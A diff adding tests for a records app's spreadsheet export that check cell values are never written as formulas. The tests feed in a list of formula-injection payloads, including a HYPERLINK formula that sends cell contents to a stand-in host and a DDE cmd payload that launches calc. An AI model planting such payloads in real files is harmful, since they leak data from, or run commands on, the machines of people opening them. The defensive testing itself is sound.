@@ -95,3 +95,62 @@ def test_a_plain_file_still_loads_under_the_limits(tree, people, settings):
         people["alice"], tree.grid_a1_1, "houses", xlsx("houses", houses(3, ""))
     )
     assert job.state == ImportJob.State.DONE, job.errors
+
+
+# ---- formula injection --------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _no_formulas(data: bytes) -> list:
+    from openpyxl import load_workbook
+
+    raw = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
+    assert b"<f>" not in raw and b"<f " not in raw
+    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    return [cell.value for cell in cells if cell.value is not None]
+
+
+def test_exported_persons_never_hold_formulas(estate):
+    from civicgrid.people.models import Person
+
+    Person.objects.filter(pk=estate.mother.pk).update(name=HOSTILE[0])
+    Person.objects.filter(pk=estate.son.pk).update(name=HOSTILE[1])
+    persons = [(p, []) for p in Person.objects.filter(pk__in=[estate.mother.pk, estate.son.pk])]
+    import datetime as dt
+
+    values = _no_formulas(ledgers.export_persons(persons, dt.date(2026, 12, 1)))
+    assert HOSTILE[0] in values and HOSTILE[1] in values  # the text itself is kept
+
+
+def test_exported_organisations_never_hold_formulas(tree, people):
+    from civicgrid.people import services
+    from civicgrid.people.models import Organisation
+
+    for i, name in enumerate(HOSTILE):
+        services.save_organisation(
+            people["alice"],
+            unit=tree.grid_a1_1,
+            name=name,
+            kind="shop",
+            address=HOSTILE[-1 - i],
+            contact_name="=cmd",
+        )
+    values = _no_formulas(ledgers.export_organisations(Organisation.objects.all()))
+    assert set(HOSTILE[:4]) <= set(values)  # (the services strip leading blanks)
+
+
+def test_every_export_cell_goes_through_one_helper():
+    data = ledgers.export(["=头", "姓名"], [["=1+1", "普通\x01文本", 3], HOSTILE], "x")
+    values = _no_formulas(data)
+    assert values[:5] == ["=头", "姓名", "=1+1", "普通文本", 3]
+    # (XML reads a carriage return back as a line feed)
+    assert values[5:] == [text.replace("\r", "\n") for text in HOSTILE]
